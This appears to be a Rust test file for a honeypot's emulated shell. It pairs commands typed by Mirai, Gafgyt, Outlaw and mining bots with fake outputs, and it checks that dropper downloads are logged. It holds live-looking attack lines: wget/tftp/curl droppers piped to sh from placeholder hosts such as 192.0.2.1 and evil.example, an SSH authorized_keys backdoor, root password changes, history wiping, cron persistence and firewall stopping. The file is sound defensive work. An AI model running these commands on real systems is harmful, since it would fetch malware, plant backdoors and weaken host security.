//! What attackers type, as Mirai, Gafgyt, Outlaw, miners and their like do.

use super::{says, shell};

/// Lines and what they print, one after the other in one session.
const LINES: &[(&str, &str)] = &[
    // Mirai and its children look for these very words.
    ("/bin/busybox ECCHI", "ECCHI: applet not found\n"),
    ("enable", ""),
    ("system", "-bash: system: command not found\n"),
    ("shell", "-bash: shell: command not found\n"),
    ("sh", ""),
    (
        "cat /proc/mounts; /bin/busybox PEACH | tail -1",
        "PEACH: applet not found\n",
    ),
    (
        ">/tmp/.x && cd /tmp/; >/var/run/.x && cd /var/run/; rm -rf /tmp/.x /var/run/.x; pwd",
        "/var/run\n",
    ),
    (
        "cd /root; /bin/busybox cp /bin/busybox retrieve && >retrieve && /bin/busybox chmod 777 retrieve && ls -l retrieve | cut -c1-10",
        "-rwxrwxrwx\n",
    ),
    (
        "dd bs=52 count=1 if=/bin/ls 2>/dev/null | head -c 4 | tail -c 3",
        "ELF",
    ),
    ("while read i; do echo $i; done < /proc/self/comm", "cat\n"),
    (
        "echo -ne '\\x7f\\x45\\x4c\\x46' > /tmp/.b; cat /tmp/.b | md5sum",
        "d1531b1622de54fe3a0187c3344600e9  -\n",
    ),
    (
        "(echo -n ab; echo -en \"\\x63\\144\") | cat; echo",
        "abcd\n",
    ),
    (
        "/bin/busybox echo -e '\\x67\\x61\\x79\\x66\\x67\\x74'",
        "gayfgt\n",
    ),
    // Outlaw and the many that copied it.
    ("cat /proc/cpuinfo | grep name | wc -l", "2\n"),
    (
        "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
        "Intel(R) Xeon(R) CPU E5-2680 v4 @\n",
    ),
    (
        "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
        "1967 413 295 1 1259 1475\n",
    ),
    (
        "ls -lh $(which ls) | awk '{print $1, $3}'",
        "-rwxr-xr-x root\n",
    ),
    ("which ls", "/usr/bin/ls\n"),
    ("crontab -l", "no crontab for root\n"),
    ("w | tail -n 1 | awk '{print $1}'", "root\n"),
    ("uname -m", "x86_64\n"),
    ("cat /proc/cpuinfo | grep model | grep name | wc -l", "2\n"),
    ("top -b -n 1 | grep Tasks | awk '{print $4}'", "1\n"),
    ("uname", "Linux\n"),
    ("whoami", "root\n"),
    (
        "lscpu | grep Model\\ name | cut -d: -f2 | xargs",
        "Intel(R) Xeon(R) CPU E5-2680 v4 @ 2.40GHz\n",
    ),
    ("df -h | head -n 2 | awk 'FNR == 2 {print $2;}'", "197M\n"),
    ("echo \"root:Zn5gKbLpQ2wX\"|chpasswd|bash", ""),
    (
        "echo -e \"123456\\nnewpass\\nnewpass\"|passwd|bash >/dev/null",
        "New password: \nRetype new password: \nSorry, passwords do not match.\npasswd: Authentication token manipulation error\npasswd: password unchanged\n",
    ),
    (
        "rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh; echo > /etc/hosts.deny; pkill -9 sleep;",
        "",
    ),
    (
        "cd ~; chattr -ia .ssh; lockr -ia .ssh",
        "-bash: lockr: command not found\n",
    ),
    (
        "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3Nz mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~; cat .ssh/authorized_keys",
        "ssh-rsa AAAAB3Nz mdrfckr\n",
    ),
    (
        "ls -la ~/.ssh/authorized_keys | awk '{print $1}'",
        "-rw-r--r--\n",
    ),
    // Miners and others.
    ("find /etc/ss* -type f", "/etc/ssh/sshd_config\n"),
    ("nproc", "2\n"),
    (
        "nvidia-smi -q | grep 'Product Name'",
        "-bash: nvidia-smi: command not found\n",
    ),
    (
        "lspci | egrep VGA | cut -f5- -d ' '",
        "Cirrus Logic GD 5446\n",
    ),
    (
        "echo $SHELL; echo $?; unset HISTFILE; export HISTFILE=/dev/null; history -c; history | wc -l",
        "/bin/bash\n0\n0\n",
    ),
    ("ps aux | grep -v grep | grep -c sshd", "1\n"),
    (
        "ps -ef | grep xmrig | grep -v grep | awk '{print $2}' | xargs kill -9",
        "",
    ),
    ("netstat -an | grep -c ':22'", "2\n"),
    ("kill -9 99999", "-bash: kill: (99999) - No such process\n"),
    (
        "uname -s -v -n -r -m | awk '{print $1,$2,$3}'",
        "Linux web-07 5.15.0-113-generic\n",
    ),
    ("cat /etc/issue | head -1", "Ubuntu 22.04.4 LTS \\n \\l\n"),
    (
        "cat /etc/os-release | grep PRETTY_NAME | sed 's/.*=\"\\(.*\\)\"/\\1/'",
        "Ubuntu 22.04.4 LTS\n",
    ),
    (
        "grep -E 'root|nobody' /etc/passwd | awk -F: '{print $1 \":\" $3}'",
        "root:0\nnobody:65534\n",
    ),
    ("awk -F: '$3>=65534 {n++} END {print n}' /etc/passwd", "1\n"),
    (
        "cat /etc/passwd | sed -n '1p;3,4p' | cut -d: -f1 | tr '\\n' ' '; echo",
        "root bin sys \n",
    ),
    (
        "sed -i 's/^PermitRootLogin.*/PermitRootLogin no/' /etc/ssh/sshd_config; grep -i permitroot /etc/ssh/sshd_config",
        "PermitRootLogin no\n",
    ),
    (
        "echo 'c2ggLWMgImVjaG8gaGki Cg==' | base64 -d | bash",
        "base64: invalid input\n",
    ),
    ("echo ZWNobyBoaQ== | base64 --decode | sh", "hi\n"),
    (
        "(crontab -l 2>/dev/null; echo '* * * * * /tmp/.x') | crontab - ; crontab -l",
        "* * * * * /tmp/.x\n",
    ),
    (
        "useradd -m -s /bin/bash -p x support; grep ^support /etc/passwd",
        "support:x:1001:1001::/home/support:/bin/bash\n",
    ),
    (
        "systemctl is-active cron; systemctl stop firewalld; service iptables stop",
        "active\nFailed to stop firewalld.service: Unit firewalld.service not loaded.\nFailed to stop iptables.service: Unit iptables.service not loaded.\n",
    ),
    ("command -v curl || command -v wget", "/usr/bin/curl\n"),
    (
        "[ -w /tmp ] && [ -d /dev/shm -a ! -f /nope ] && echo ok",
        "ok\n",
    ),
    ("nohup ./x >/dev/null 2>&1 &", ""),
    ("cat /proc/uptime | cut -d. -f2- | wc -w", "2\n"),
    (
        "ip a | grep -o 'inet [0-9.]*' | head -1",
        "inet 127.0.0.1\n",
    ),
    ("hostname; id -u; arch", "web-07\n0\nx86_64\n"),
    ("echo SSH_OK_$((40+2))", "SSH_OK_42\n"),
];

#[test]
fn reconnaissance_is_answered() {
    let mut shell = shell("root");
    let mut wrong = vec![];
    for (line, answer) in LINES {
        let said = says(&mut shell, line);
        let as_wanted = if line.starts_with("cat /proc/mounts") {
            said.ends_with(answer)
        } else {
            said == *answer
        };
        if !as_wanted {
            wrong.push(format!("{line}\n  {said:?}\n  {answer:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn droppers_are_noted() {
    let mut shell = shell("root");
    for (line, urls) in [
        (
            "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.1/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 192.0.2.1 -c get tftp1.sh; tftp -r tftp2.sh -g 192.0.2.1; ftpget -v -u anonymous -p anonymous -P 21 192.0.2.1 ftp1.sh ftp1.sh; rm -rf bins.sh",
            vec![
                "http://192.0.2.1/bins.sh",
                "tftp://192.0.2.1/tftp1.sh",
                "tftp://192.0.2.1/tftp2.sh",
                "ftp://192.0.2.1/ftp1.sh",
            ],
        ),
        (
            "for a in mips mpsl arm7 x86; do busybox wget http://192.0.2.2:8080/$a -O- > .x; chmod +x .x; ./.x telnet.$a; done",
            vec![
                "http://192.0.2.2:8080/mips",
                "http://192.0.2.2:8080/mpsl",
                "http://192.0.2.2:8080/arm7",
                "http://192.0.2.2:8080/x86",
            ],
        ),
        (
            "(curl -s http://192.0.2.3/a.sh || wget -q -O - http://192.0.2.3/b.sh) | bash -sh",
            vec!["http://192.0.2.3/a.sh", "http://192.0.2.3/b.sh"],
        ),
        (
            "bash -c \"$(curl -fsSL https://evil.example/i.sh)\"; bash <(curl -s http://192.0.2.4/x)",
            vec!["https://evil.example/i.sh", "http://192.0.2.4/x"],
        ),
        (
            "python3 -c 'x' ; nohup $(which wget) http://192.0.2.5/y >/dev/null 2>&1 &",
            vec!["http://192.0.2.5/y"],
        ),
        (
            "scp -P 22 a@192.0.2.6:/tmp/z .",
            vec!["scp://a@192.0.2.6//tmp/z"],
        ),
    ] {
        let outcome = shell.run(line.as_bytes());
        let noted: Vec<_> = outcome
            .urls
            .iter()
            .map(|url| String::from_utf8_lossy(url))
            .collect();
        assert_eq!(noted, urls, "{line}");
    }
}
